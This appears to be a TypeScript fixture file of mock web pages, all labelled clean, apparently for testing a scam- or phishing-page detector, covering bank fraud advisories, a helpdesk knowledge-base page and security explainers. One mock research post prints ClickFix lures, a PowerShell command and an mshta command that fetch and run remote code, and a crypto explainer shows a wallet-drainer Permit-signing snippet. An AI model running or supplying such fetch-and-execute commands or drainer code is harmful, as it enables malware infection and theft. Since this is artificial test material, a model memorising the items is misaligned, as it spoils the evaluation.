import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { b64, codes, cookieBar, doc, favicon, gtag, hexOf, pct, rev, wordmark, xorB64 } from '../parts/yh-kit.js';
import { apk, beepWav, cfb, cssRoute, fileRoute, iso, jsRoute, jsonRoute, lnk, pe, pngRoute, rar5, sevenZip, zip } from '../parts/e-bin.js';


export const entries: Entry[] = [
{
  id: 'yh-clean-sabric-sim-swap-otp-advisory',
  label: 'clean',
  kind: 'industry-fraud-advisory',
  url: 'https://www.sabric.co.za/media-and-news/press-releases/sim-swap-and-otp-interception/',
  body: doc('SIM swap fraud and OTP interception – SABRIC', `
<header><b>SABRIC</b> South African Banking Risk Information Centre</header>
<main>
 <h1>SIM swap fraud and OTP interception: what customers need to know</h1>
 <p class="meta">Press release · Johannesburg</p>
 <p>SABRIC has noted an increase in incidents where criminals obtain a victim's online banking credentials through phishing and then perform a SIM swap or port the victim's number to intercept one-time PINs.</p>
 <h2>How the scam works</h2>
 <ol><li>The victim receives an SMS such as <q>Your account has been suspended. Verify your details at [link]</q> and enters their username and password.</li><li>The criminal phones the victim pretending to be from the bank's fraud department, and asks the victim to read back the OTP "to cancel a fraudulent transaction".</li><li>The OTP is used to add a beneficiary or authorise a payment.</li></ol>
 <h2>Protect yourself</h2>
 <ul><li>Banks will never ask you to share an OTP. An OTP is only for you to enter into a transaction that <i>you</i> started.</li><li>If your phone suddenly loses signal for no reason, contact your network provider and bank immediately.</li><li>Register for SIM-swap notifications with your bank.</li><li>Use the bank's app authentication rather than SMS where possible.</li></ul>
 <p>Report fraud to your bank's 24-hour fraud line. To verify whether a call is from your bank, hang up and call the number on the back of your card.</p>
</main>`, {
    css: 'body{margin:0;font-family:Georgia,serif;color:#222}header{background:#13294b;color:#fff;padding:16px 24px;font-family:Arial,sans-serif}header b{font-size:22px;margin-right:10px}main{max-width:740px;margin:24px auto;padding:0 16px;line-height:1.6}.meta{color:#777;font-family:Arial,sans-serif;font-size:13px}',
  }),
},
{
  id: 'yh-clean-clickfix-campaign-writeup-iocs',
  label: 'clean',
  kind: 'security-research-blog',
  url: 'https://blog.sentinel-za.co.za/2025/04/clickfix-on-south-african-wordpress-sites/',
  body: doc('ClickFix lures on compromised South African WordPress sites | Sentinel Labs ZA', `
<header><a href="/">Sentinel Labs ZA</a><nav><a href="/research/">Research</a><a href="/advisories/">Advisories</a></nav></header>
<article>
 <h1>ClickFix lures on compromised South African WordPress sites</h1>
 <p class="by">Threat Intelligence Team · 9 April 2025 · 8 min read</p>
 <p>Since February we have tracked more than 140 small-business WordPress sites in South Africa, Namibia and Botswana that load an injected script presenting a fake Cloudflare "Verify you are human" dialog. Clicking the checkbox silently copies a PowerShell command to the clipboard and instructs the visitor to press <kbd>Win</kbd>+<kbd>R</kbd>, paste and press Enter.</p>
 <h2>The clipboard payload</h2>
 <p>The command recovered from one victim's RunMRU registry key:</p>
 <div class="code"><button class="copy" data-t="c1">Copy</button><pre id="c1">powershell -w h -nop -c "$r='https://cdn.jsdeliver-static[.]com/b/verify.ps1';iex(irm $r)" # ✅ I am not a robot - Cloudflare Verification ID: 71-4490</pre></div>
 <p>A second variant uses <code>mshta</code> to run a remote HTA file:</p>
 <div class="code"><button class="copy" data-t="c2">Copy</button><pre id="c2">mshta hxxps://molefe-attorneys.co[.]bw/wp-includes/js/captcha-verify.hta # ✅ I am not a robot - reCAPTCHA Verification ID: 2291</pre></div>
 <p>The second stage drops Lumma Stealer, which harvests browser-saved passwords, cookies and crypto wallet extensions.</p>
 <h2>Hunting query</h2>
 <div class="code"><button class="copy" data-t="c3">Copy</button><pre id="c3">Get-ItemProperty 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU' | Select-Object * -ExcludeProperty PS*</pre></div>
 <h2>Indicators</h2>
 <table><tr><th>Type</th><th>Value</th></tr><tr><td>Domain</td><td>cdn.jsdeliver-static[.]com</td></tr><tr><td>Path</td><td>/wp-content/plugins/wp-optimize-cache/assets/js/lazy.min.js</td></tr><tr><td>SHA-256</td><td>3f1a9c0e5b7d2e48a61f0c9b8d7e6a5f4c3b2a1908f7e6d5c4b3a29180f7e6d5</td></tr></table>
 <h2>Recommendations</h2>
 <ul><li>Block <code>Win+R</code> for standard users via Group Policy, or restrict <code>mshta.exe</code> with WDAC/AppLocker.</li><li>Teach staff that no real CAPTCHA asks you to run a command.</li><li>Website owners: update WordPress plugins and rotate admin passwords.</li></ul>
</article>
<script>document.querySelectorAll('.copy').forEach(function(b){b.addEventListener('click',function(){navigator.clipboard.writeText(document.getElementById(b.dataset.t).textContent).then(function(){b.textContent='Copied';setTimeout(function(){b.textContent='Copy'},1500)})})});</script>`, {
    css: `body{margin:0;font-family:"IBM Plex Sans",Arial,sans-serif;color:#1d2330}header{display:flex;justify-content:space-between;padding:16px 26px;background:#0d1321}header a{color:#e6ebf5;text-decoration:none;margin-left:14px}article{max-width:780px;margin:26px auto;padding:0 16px;line-height:1.6}.by{color:#778;font-size:13px}
.code{position:relative;background:#0d1321;color:#c9e4ff;border-radius:6px;margin:12px 0}.code pre{margin:0;padding:14px;overflow-x:auto;font-size:13px;white-space:pre-wrap;word-break:break-all}.copy{position:absolute;right:8px;top:8px;font-size:11px;background:#2c3a55;color:#fff;border:0;padding:3px 8px;border-radius:3px}table{border-collapse:collapse;width:100%;font-size:13px}td,th{border:1px solid #dde;padding:6px;text-align:left}kbd{border:1px solid #aaa;border-radius:3px;padding:0 4px}`,
  }),
},
{
  id: 'yh-clean-it-servicedesk-powershell-fixes',
  label: 'clean',
  kind: 'it-helpdesk-commands',
  url: 'https://servicedesk.kalaharimutual.co.bw/kb/KB0012044',
  body: doc('KB0012044 – Fix VPN and Outlook connection problems | IT Service Desk', `
<div class="top"><b>IT Service Desk</b><span>Kalahari Mutual Bank · Knowledge Base</span></div>
<div class="c">
 <h1>KB0012044 – Fix VPN and Outlook connection problems</h1>
 <p class="meta">Applies to: Windows 11 branch laptops · Last reviewed 2025-02-18 · Owner: End-User Computing</p>
 <p>If GlobalProtect connects but Outlook or the core banking client cannot reach servers, work through these steps. Open <b>Windows Terminal</b> (right-click Start &gt; Terminal) – you do not need admin rights unless stated.</p>
 <h3>1. Flush DNS and renew your address</h3>
 <div class="cmd"><pre id="k1">ipconfig /flushdns
ipconfig /release
ipconfig /renew</pre><button onclick="cp('k1',this)">Copy</button></div>
 <h3>2. Check you can reach the mail server</h3>
 <div class="cmd"><pre id="k2">Test-NetConnection mail.kalaharimutual.co.bw -Port 443</pre><button onclick="cp('k2',this)">Copy</button></div>
 <h3>3. Force a Group Policy and certificate refresh</h3>
 <div class="cmd"><pre id="k3">gpupdate /force
certutil -pulse</pre><button onclick="cp('k3',this)">Copy</button></div>
 <h3>4. Reset the Outlook profile cache (admin not required)</h3>
 <div class="cmd"><pre id="k4">Stop-Process -Name OUTLOOK -ErrorAction SilentlyContinue
Remove-Item "$env:LOCALAPPDATA\\Microsoft\\Outlook\\*.ost" -WhatIf</pre><button onclick="cp('k4',this)">Copy</button></div>
 <p>Remove <code>-WhatIf</code> only after checking the listed files. If the problem persists, log a call on ext. 4400 quoting this article number.</p>
 <div class="note"><b>Security reminder:</b> The Service Desk will never ask you to paste commands from a website pop-up, a "CAPTCHA" or a caller you did not contact. Commands in our knowledge base are only published on servicedesk.kalaharimutual.co.bw.</div>
</div>
<script>function cp(id,b){navigator.clipboard.writeText(document.getElementById(id).textContent);b.textContent='Copied ✓';setTimeout(function(){b.textContent='Copy'},1200)}</script>`, {
    css: `body{margin:0;font-family:"Segoe UI",Arial,sans-serif;background:#f5f6f8}.top{background:#203864;color:#fff;padding:12px 22px}.top span{margin-left:12px;font-size:13px;color:#c8d3ea}.c{max-width:780px;margin:22px auto;background:#fff;padding:24px}.meta{font-size:12px;color:#778}
.cmd{display:flex;gap:8px;align-items:flex-start;background:#1e1e1e;color:#dcdcdc;border-radius:4px;padding:10px}.cmd pre{flex:1;margin:0;font-size:13px}.cmd button{font-size:12px}.note{background:#fff6e0;padding:10px;margin-top:16px;font-size:13px}`,
  }),
},
{
  id: 'yh-clean-drainer-kits-explainer-blog',
  label: 'clean',
  kind: 'security-research-blog',
  url: 'https://www.cryptoafrica-news.com/guides/how-wallet-drainers-work',
  body: doc('How wallet drainers steal crypto – and how to spot them | CryptoAfrica', `
<header><b>CryptoAfrica</b><nav><a>News</a><a>Guides</a><a>Markets</a></nav></header>
<article>
 <h1>How wallet drainers steal crypto – and how to spot them</h1>
 <p class="m">Guides · Security · 11 min read</p>
 <p>A "drainer" is a script on a fake airdrop or mint site that asks your wallet to sign something that hands control of your tokens to the attacker. Unlike seed-phrase phishing, you never type your recovery words – you simply click "Confirm".</p>
 <h2>The three signatures to fear</h2>
 <p><b>1. Unlimited approvals.</b> A call to the ERC-20 <code>approve(spender, amount)</code> function with amount set to the maximum 2<sup>256</sup>−1. The calldata starts with <code>0x095ea7b3</code>.</p>
 <p><b>2. setApprovalForAll.</b> For NFTs, <code>setApprovalForAll(operator, true)</code> – selector <code>0xa22cb465</code> – lets the operator move every NFT in a collection.</p>
 <p><b>3. Off-chain Permit signatures.</b> An <code>eth_signTypedData_v4</code> request with <code>primaryType: "Permit"</code> costs no gas, so victims think it is harmless. A typical drainer snippet looks like this:</p>
 <pre>const sig = await ethereum.request({
  method: "eth_signTypedData_v4",
  params: [owner, JSON.stringify({ primaryType: "Permit", message: { owner, spender: ATTACKER, value: MAX_UINT, deadline } })]
});</pre>
 <h2>Red flags</h2>
 <ul><li>A countdown timer and "claim before the snapshot closes".</li><li>The site asks you to sign a message "to verify ownership" for a free claim.</li><li>Any site or "support agent" asking for your 12 or 24 recovery words.</li></ul>
 <h2>Already signed?</h2><p>Revoke approvals with a token-approval checker such as Revoke.cash or Etherscan's Token Approvals page, and move remaining funds to a fresh wallet.</p>
</article>`, {
    css: 'body{margin:0;font-family:Georgia,serif;color:#222}header{display:flex;justify-content:space-between;padding:14px 24px;background:#111;color:#f0b90b;font-family:Arial,sans-serif}header nav a{color:#ddd;margin-left:14px}article{max-width:760px;margin:24px auto;padding:0 16px;line-height:1.65}.m{color:#888;font-size:13px}pre{background:#f3f3f3;padding:12px;overflow-x:auto;font-size:13px}code{background:#f3f3f3;padding:1px 4px}',
  }),
},
{
  id: 'yh-clean-bank-report-fraud-form',
  label: 'clean',
  kind: 'bank-fraud-report-form',
  url: 'https://www.nedbank.co.za/content/nedbank/desktop/gt/en/info/fraud-and-security/report-fraud.html',
  body: doc('Report fraud | Nedbank', `
<div class="hd"><a href="https://www.nedbank.co.za/">${wordmark('Nedbank', '#ffffff', { shape: 'none', h: 30 })}</a></div>
<div class="c">
 <h1>Report fraud or a suspicious message</h1>
 <p>If you have shared your banking details, OTP or card PIN, call us <b>immediately</b> on <b>0800 110 929</b> (24/7) so that we can block your profile and cards. Use this form to report phishing emails, SMSes, WhatsApps or websites.</p>
 <form method="post" action="/content/nedbank/forms/report-fraud.submit.json" id="rf">
  <label>Type of message</label><select name="channel"><option>SMS</option><option>Email</option><option>WhatsApp</option><option>Phone call</option><option>Website</option></select>
  <label>Sender number, email address or website</label><input name="source">
  <label>Paste the message you received</label><textarea name="message" rows="4" placeholder="e.g. Nedbank: Your profile has been restricted. Confirm your details at ..."></textarea>
  <label>Did you click a link or share any details?</label><select name="clicked"><option>No</option><option>Yes – I clicked a link</option><option>Yes – I entered my login details</option><option>Yes – I shared an OTP or PIN</option></select>
  <label>Your email (optional, for follow-up)</label><input name="email" type="email">
  <p class="n">Please do <b>not</b> include your password, PIN or card number in this form.</p>
  <button>Submit report</button>
 </form>
 <p id="ok" hidden>Thank you. Our fraud team will investigate the report.</p>
</div>
<script>document.getElementById('rf').addEventListener('submit',function(e){e.preventDefault();fetch(this.action,{method:'POST',body:new FormData(this)}).finally(function(){document.getElementById('rf').hidden=true;document.getElementById('ok').hidden=false})});</script>`, {
    head: favicon('#006341'),
    css: 'body{margin:0;font-family:Arial,sans-serif}.hd{background:#006341;padding:14px 24px}.c{max-width:640px;margin:24px auto;padding:0 16px}label{display:block;font-size:13px;margin:12px 0 3px}input,select,textarea{width:100%;box-sizing:border-box;padding:9px;border:1px solid #bfc9c4}.n{font-size:12px;color:#a00}button{margin-top:12px;background:#006341;color:#fff;border:0;padding:11px 26px}',
  }),
  routes: {
    'www.nedbank.co.za/content/nedbank/forms/report-fraud.submit.json': jsonRoute({ status: 'received' }),
  },
},
{
  id: 'yh-clean-afrikaans-news-bedrog-artikel',
  label: 'clean',
  kind: 'news-article-scams',
  url: 'https://www.maroelamedia.co.za/nuus/sa-nuus/pasop-vir-vals-sars-terugbetalings-sms/',
  body: doc('Pasop vir vals SARS-terugbetalings-SMS’e | Maroela Media', `
${gtag('G-MM2KX77D0E')}
<header><b>Maroela Media</b><nav><a>Nuus</a><a>Sport</a><a>Geld</a><a>Leefstyl</a></nav></header>
<article>
 <h1>Pasop vir vals SARS-terugbetalings-SMS’e</h1>
 <p class="m">Nuus · deur Annelie Botha</p>
 <p>Die Suid-Afrikaanse Inkomstediens (SARS) waarsku belastingbetalers teen ʼn nuwe golf SMS’e wat beweer dat hulle ʼn belastingterugbetaling van duisende rande kan eis. Die boodskap lui: <q>SARS: U kwalifiseer vir ʼn terugbetaling van R3 846,21. Bevestig u kaartbesonderhede by ...</q></p>
 <p>Volgens SARS word terugbetalings slegs in die bankrekening inbetaal wat op die belastingbetaler se eFiling-profiel geverifieer is. "Ons sal jou nooit vra vir jou kaartnommer, CVV of PIN nie," het ʼn woordvoerder gesê.</p>
 <p>Die bedrieërs gebruik webwerwe wat byna identies lyk aan eFiling, maar met adresse soos <i>sarsefiling-refund.co</i>. Slagoffers word gevra vir hul ID-nommer, kaartnommer en OTP.</p>
 <h2>Wat om te doen</h2>
 <ul><li>Moet nooit op skakels in SMS’e klik nie; tik self <b>www.sarsefiling.co.za</b> in.</li><li>Stuur verdagte boodskappe aan phishing@sars.gov.za.</li><li>As jy reeds jou kaartbesonderhede gegee het, skakel jou bank onmiddellik.</li></ul>
</article>`, {
    lang: 'af',
    css: 'body{margin:0;font-family:Georgia,serif;color:#222}header{display:flex;justify-content:space-between;padding:14px 24px;background:#6b1e3a;color:#fff;font-family:Arial,sans-serif}header nav a{color:#fff;margin-left:14px}article{max-width:720px;margin:24px auto;padding:0 16px;line-height:1.65}.m{color:#888;font-size:13px}',
  }),
},
{
  id: 'yh-clean-microsoft-support-contact-za',
  label: 'clean',
  kind: 'vendor-support-page',
  url: 'https://support.microsoft.com/en-za/contactus',
  body: doc('Contact Microsoft Support', `
<header>${wordmark('Microsoft', '#737373', { shape: 'square', h: 24, w: 130 })}<span>Support</span></header>
<main>
 <h1>Contact Microsoft Support</h1>
 <p>Get help with Microsoft 365, Windows, Xbox and your Microsoft account. Sign in to chat with an agent or request a call back.</p>
 <div class="cards"><div><h3>Get help in the Get Help app</h3><p>Open the Get Help app in Windows to find answers and contact support.</p></div><div><h3>Business support</h3><p>Admins can create a service request in the Microsoft 365 admin center.</p></div><div><h3>South Africa</h3><p>Microsoft Store sales and support: <b>0800 991 550</b> (Mon–Fri, 08:00–17:00 SAST)</p></div></div>
 <div class="scam"><h2>Avoid tech support scams</h2><p>Microsoft does not send unsolicited email messages or make unsolicited phone calls to request personal or financial information, or to provide technical support to fix your computer. Error and warning messages from Microsoft never include a phone number. If a pop-up says your PC is blocked and tells you to call a number, close the browser.</p><p><a href="https://www.microsoft.com/reportascam">Report a tech support scam</a></p></div>
</main>`, {
    css: 'body{margin:0;font-family:"Segoe UI",Arial,sans-serif}header{display:flex;align-items:center;gap:14px;padding:12px 24px;border-bottom:1px solid #ddd}header span{font-weight:600}main{max-width:900px;margin:24px auto;padding:0 16px}.cards{display:flex;gap:14px}.cards div{flex:1;border:1px solid #e1e1e1;padding:14px}.scam{background:#f3f2f1;padding:14px;margin-top:20px}',
  }),
},
{
  id: 'yh-clean-ecobank-conseils-securite-fr',
  label: 'clean',
  kind: 'bank-security-advice',
  url: 'https://ecobank.com/ci/personnel/securite/arnaques-courantes',
  body: doc('Arnaques courantes – Sécurité | Ecobank Côte d’Ivoire', `
<div class="h">${wordmark('Ecobank', '#005b82', { shape: 'circle', h: 30 })}</div>
<div class="c">
 <h1>Reconnaître les arnaques courantes</h1>
 <p>Les fraudeurs se font passer pour Ecobank, pour votre opérateur mobile ou pour l’administration fiscale. Exemples de messages signalés par nos clients :</p>
 <blockquote>« Ecobank : votre compte sera suspendu. Confirmez vos informations ici : ecobank-omni-ci[.]com/connexion »</blockquote>
 <blockquote>« Félicitations ! Vous avez gagné 500 000 FCFA. Envoyez les frais de dossier de 15 000 FCFA par Mobile Money. »</blockquote>
 <h2>Les bons réflexes</h2>
 <ul><li>Ne communiquez jamais votre mot de passe, code PIN ou code reçu par SMS.</li><li>Tapez vous-même l’adresse <b>ecobankonline.ecobank.com</b> dans votre navigateur.</li><li>En cas de doute, appelez le service client au numéro figurant au dos de votre carte.</li></ul>
</div>`, {
    lang: 'fr',
    css: 'body{margin:0;font-family:Arial,sans-serif}.h{padding:12px 22px;border-bottom:3px solid #7ac143}.c{max-width:720px;margin:22px auto;padding:0 16px;line-height:1.6}blockquote{background:#eef4f7;padding:10px;border-left:4px solid #005b82}',
  }),
},
];
